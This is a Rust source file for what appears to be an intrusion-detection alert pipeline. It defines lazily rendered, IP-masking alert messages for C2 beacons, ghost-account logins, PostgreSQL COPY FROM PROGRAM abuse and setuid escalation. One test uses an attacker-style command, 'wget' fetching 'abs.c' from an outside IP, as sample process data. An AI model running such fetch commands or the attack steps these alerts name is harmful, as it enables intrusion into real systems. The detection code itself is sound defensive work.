//! Lazily rendered alert messages.
//!
//! The symbolizer used to eagerly `format!` + sanitize a `String` for every
//! alert it emitted — per-record heap traffic that dominated the pipeline
//! hot path, even though the overwhelming majority of alerts are filtered,
//! counted, or retained without their message ever being read. A
//! [`MessageSpec`] is the structured replacement: a small `Copy` value
//! capturing *what* the message says (interned symbols plus scalar
//! metadata); the human-readable string is materialized only when an alert
//! is actually surfaced — in a notification, a store/report, or a
//! `Display` site — via [`MessageSpec::render`].
//!
//! Sanitization (§II-A) and symbol resolution both happen at render
//! time, and both take what they need from the caller:
//! [`MessageSpec::render`] applies [`SanitizeConfig::default`] and
//! [`MessageSpec::render_with`] an explicit config, and each resolves the
//! spec's symbols against the [`SymScope`] passed in — the scope that
//! minted them. The `Display` impl is global-only: it resolves against
//! the global scope, so it is for specs built in that scope.

use std::fmt;
use std::net::Ipv4Addr;

use simnet::flow::{ConnState, Proto};
use simnet::intern::{Sym, SymScope, SymTable};

use crate::sanitize::{sanitize, SanitizeConfig};

/// A structured, allocation-free alert message, rendered on demand.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum MessageSpec {
    /// No message.
    #[default]
    Empty,
    /// A fixed literal ("irc connection", "tor relay connection", ...).
    Static(&'static str),
    /// Arbitrary pre-built text (interned); sanitized at render time.
    Text(Sym),
    /// `"{proto} probe {resp_h}:{resp_p} state={state}"`
    Probe {
        proto: Proto,
        resp_h: Ipv4Addr,
        resp_p: u16,
        state: ConnState,
    },
    /// `"beacon to known C2 {resp_h}:{resp_p}"`
    C2Beacon { resp_h: Ipv4Addr, resp_p: u16 },
    /// `"icmp payload volume {bytes}B"`
    IcmpVolume { bytes: u64 },
    /// `"dns query volume {bytes}B"`
    DnsVolume { bytes: u64 },
    /// `"outbound transfer {bytes}B"`
    OutboundVolume { bytes: u64 },
    /// `"{method} {host}{uri} ({status})"` — the Zeek http line.
    HttpLine {
        method: Sym,
        host: Sym,
        uri: Sym,
        status: u16,
    },
    /// `"failed ssh auth from {orig_h}"`
    SshFailed { orig_h: Ipv4Addr },
    /// `"ghost account {user} login"`
    GhostLogin { user: Sym },
    /// `"internal ssh {orig_h} -> {resp_h}"`
    InternalSsh { orig_h: Ipv4Addr, resp_h: Ipv4Addr },
    /// `"login at {hour:02}h"`
    LoginAtHour { hour: u32 },
    /// `"[{hostname}] {cmdline}"` — a host process execution.
    Exec { hostname: Sym, cmdline: Sym },
    /// `"{verb} {path}"` — file integrity events (`wipe`, `clear`,
    /// `modify`, `note`, `encrypt`, `cron`).
    FileOp { verb: &'static str, path: Sym },
    /// `"drop {path} by {process}"`
    FileDrop { path: Sym, process: Sym },
    /// `"db auth as default account {user}"`
    DbDefaultCred { user: Sym },
    /// `"db auth failed for {user}"`
    DbAuthFailed { user: Sym },
    /// `"largeobject ELF payload ({bytes}B) prefix={hex_prefix}"`
    ElfBlob { bytes: u64, hex_prefix: Sym },
    /// `"lo_export to {path}"`
    LoExport { path: Sym },
    /// `"COPY FROM PROGRAM '{program}'"`
    CopyFromProgram { program: Sym },
    /// `"[{hostname}] setuid(0) by {user}"`
    Setuid { hostname: Sym, user: Sym },
    /// `"[{hostname}] ptrace on monitor"`
    MonitorPtrace { hostname: Sym },
}

impl MessageSpec {
    /// Whether there is any message at all.
    pub fn is_empty(&self) -> bool {
        matches!(self, MessageSpec::Empty)
    }

    /// Write the *raw* (unsanitized) message into `out`, resolving
    /// symbols against `table`.
    fn write_raw(&self, table: &SymTable, out: &mut String) {
        use std::fmt::Write as _;
        let r = |s: Sym| table.resolve(s);
        match *self {
            MessageSpec::Empty => {}
            MessageSpec::Static(s) => out.push_str(s),
            MessageSpec::Text(s) => out.push_str(r(s)),
            MessageSpec::Probe {
                proto,
                resp_h,
                resp_p,
                state,
            } => {
                let _ = write!(out, "{proto} probe {resp_h}:{resp_p} state={state}");
            }
            MessageSpec::C2Beacon { resp_h, resp_p } => {
                let _ = write!(out, "beacon to known C2 {resp_h}:{resp_p}");
            }
            MessageSpec::IcmpVolume { bytes } => {
                let _ = write!(out, "icmp payload volume {bytes}B");
            }
            MessageSpec::DnsVolume { bytes } => {
                let _ = write!(out, "dns query volume {bytes}B");
            }
            MessageSpec::OutboundVolume { bytes } => {
                let _ = write!(out, "outbound transfer {bytes}B");
            }
            MessageSpec::HttpLine {
                method,
                host,
                uri,
                status,
            } => {
                let _ = write!(out, "{} {}{} ({status})", r(method), r(host), r(uri));
            }
            MessageSpec::SshFailed { orig_h } => {
                let _ = write!(out, "failed ssh auth from {orig_h}");
            }
            MessageSpec::GhostLogin { user } => {
                let _ = write!(out, "ghost account {} login", r(user));
            }
            MessageSpec::InternalSsh { orig_h, resp_h } => {
                let _ = write!(out, "internal ssh {orig_h} -> {resp_h}");
            }
            MessageSpec::LoginAtHour { hour } => {
                let _ = write!(out, "login at {hour:02}h");
            }
            MessageSpec::Exec { hostname, cmdline } => {
                let _ = write!(out, "[{}] {}", r(hostname), r(cmdline));
            }
            MessageSpec::FileOp { verb, path } => {
                let _ = write!(out, "{verb} {}", r(path));
            }
            MessageSpec::FileDrop { path, process } => {
                let _ = write!(out, "drop {} by {}", r(path), r(process));
            }
            MessageSpec::DbDefaultCred { user } => {
                let _ = write!(out, "db auth as default account {}", r(user));
            }
            MessageSpec::DbAuthFailed { user } => {
                let _ = write!(out, "db auth failed for {}", r(user));
            }
            MessageSpec::ElfBlob { bytes, hex_prefix } => {
                let _ = write!(
                    out,
                    "largeobject ELF payload ({bytes}B) prefix={}",
                    r(hex_prefix)
                );
            }
            MessageSpec::LoExport { path } => {
                let _ = write!(out, "lo_export to {}", r(path));
            }
            MessageSpec::CopyFromProgram { program } => {
                let _ = write!(out, "COPY FROM PROGRAM '{}'", r(program));
            }
            MessageSpec::Setuid { hostname, user } => {
                let _ = write!(out, "[{}] setuid(0) by {}", r(hostname), r(user));
            }
            MessageSpec::MonitorPtrace { hostname } => {
                let _ = write!(out, "[{}] ptrace on monitor", r(hostname));
            }
        }
    }

    /// Render and sanitize with an explicit config, resolving symbols
    /// against `scope`, the scope the spec's symbols were minted in.
    pub fn render_with(&self, cfg: &SanitizeConfig, scope: &SymScope) -> String {
        let mut raw = String::new();
        self.write_raw(scope.table(), &mut raw);
        sanitize(cfg, &raw)
    }

    /// Render and sanitize with [`SanitizeConfig::default`] — the string
    /// the pre-interning pipeline eagerly attached to every alert.
    pub fn render(&self, scope: &SymScope) -> String {
        self.render_with(&SanitizeConfig::default(), scope)
    }
}

/// Global-only: resolves symbols against the global scope. Tenant-scoped
/// specs render through [`MessageSpec::render`].
impl fmt::Display for MessageSpec {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.render(&SymScope::global()))
    }
}

impl From<&str> for MessageSpec {
    fn from(s: &str) -> MessageSpec {
        if s.is_empty() {
            MessageSpec::Empty
        } else {
            MessageSpec::Text(s.into())
        }
    }
}

impl From<String> for MessageSpec {
    fn from(s: String) -> MessageSpec {
        s.as_str().into()
    }
}

impl From<Sym> for MessageSpec {
    fn from(s: Sym) -> MessageSpec {
        if s.is_empty() {
            MessageSpec::Empty
        } else {
            MessageSpec::Text(s)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn render_sanitizes_like_the_eager_path() {
        let g = SymScope::global();
        let m = MessageSpec::HttpLine {
            method: "GET".into(),
            host: "64.215.4.5".into(),
            uri: "/abs.c".into(),
            status: 200,
        };
        assert_eq!(m.render(&g), "GET 64.215.xxx.yyy/abs.c (200)");
        assert_eq!(m.to_string(), m.render(&g));
    }

    #[test]
    fn empty_and_static_round_trip() {
        let g = SymScope::global();
        assert!(MessageSpec::Empty.is_empty());
        assert!(MessageSpec::from("").is_empty());
        assert_eq!(
            MessageSpec::Static("irc connection").render(&g),
            "irc connection"
        );
        assert_eq!(MessageSpec::from("plain text").render(&g), "plain text");
        assert_eq!(MessageSpec::default(), MessageSpec::Empty);
    }

    #[test]
    fn structured_variants_match_eager_formats() {
        let g = SymScope::global();
        let m = MessageSpec::Exec {
            hostname: "cn01".into(),
            cmdline: "wget http://64.215.4.5/abs.c".into(),
        };
        assert_eq!(m.render(&g), "[cn01] wget http://64.215.xxx.yyy/abs.c");
        let m = MessageSpec::OutboundVolume { bytes: 1024 };
        assert_eq!(m.render(&g), "outbound transfer 1024B");
        let m = MessageSpec::LoginAtHour { hour: 3 };
        assert_eq!(m.render(&g), "login at 03h");
    }

    #[test]
    fn render_with_honours_custom_config() {
        let g = SymScope::global();
        let m = MessageSpec::SshFailed {
            orig_h: "103.102.1.1".parse().unwrap(),
        };
        let unmasked = m.render_with(
            &SanitizeConfig {
                mask_ips: false,
                ..SanitizeConfig::default()
            },
            &g,
        );
        assert!(unmasked.contains("103.102.1.1"));
        assert!(m.render(&g).contains("103.102.xxx.yyy"));
    }
}
